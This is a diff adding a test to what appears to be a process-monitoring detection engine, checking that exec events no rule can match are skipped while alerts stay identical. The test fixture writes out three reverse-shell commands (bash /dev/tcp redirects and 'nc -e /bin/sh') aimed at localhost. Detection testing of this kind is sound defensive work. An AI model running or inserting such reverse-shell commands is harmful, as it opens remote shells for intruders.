@@ -46,6 +46,36 @@ describe('Engine', () => {
     expect(out.events.map((e) => (e.event as { action: string }).action)).toEqual(['fork', 'exec', 'exec', 'end']);
   });
 
+  it('builds no document for an exec no rule could take by its names, and alerts as when it builds every one', async () => {
+    const events: RawEvent[] = [];
+    let pid = 300;
+    const run = (argv: string[], exe: string, parent = 100) => {
+      const child = pid++;
+      events.push(forkEvent(parent, child), execEvent(child, snapshot(argv, exe, parent, child)));
+      return child;
+    };
+    const make = run(['make', '-j2'], '/usr/bin/make');
+    for (let i = 0; i < 20; i++) run(['cc', '-c', `f${i}.c`], '/usr/bin/x86_64-linux-gnu-gcc-12', make);
+    run(['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], '/usr/bin/setsid');
+    run(['nc', '-e', '/bin/sh', '127.0.0.1', '9'], '/usr/bin/nc.traditional');
+    const sh = run(['sh', '-c', 'x'], '/usr/bin/dash', make);
+    run(['bash', '-c', 'exec 5<>/dev/tcp/127.0.0.1/9; cat <&5 | sh >&5'], '/usr/bin/bash', sh);
+    const alertsOf = (out: ReturnType<typeof collector>) => out.alerts.map((a) => `${(a.rule as { id: string }).id}:${(a.process as { pid: number }).pid}`).sort();
+    const gated = await engine(new SteppedClock());
+    const gatedOut = collector();
+    gated.handleBatch(events, gatedOut);
+    const full = await engine(new SteppedClock(), true);
+    const fullOut = collector();
+    full.handleBatch(events, fullOut);
+    expect(alertsOf(gatedOut).length).toBeGreaterThanOrEqual(3);
+    expect(alertsOf(gatedOut)).toEqual(alertsOf(fullOut));
+    const stats = (gated as unknown as { stream: ProcessEventStream }).stream.stats();
+    // make's 20 compilers: no rule reads them (make itself is a shell's child, which the rule for
+    // commands of a socket-connected shell reads)
+    expect(stats.notDocumented).toBe(20);
+    expect(stats.documents.exec + stats.notDocumented).toBe(25);
+  });
+
   it('alerts on setsid launched from a shell with a /dev/tcp redirect, attributed to the wrapper', async () => {
     const clock = new SteppedClock();
     const e = await engine(clock);
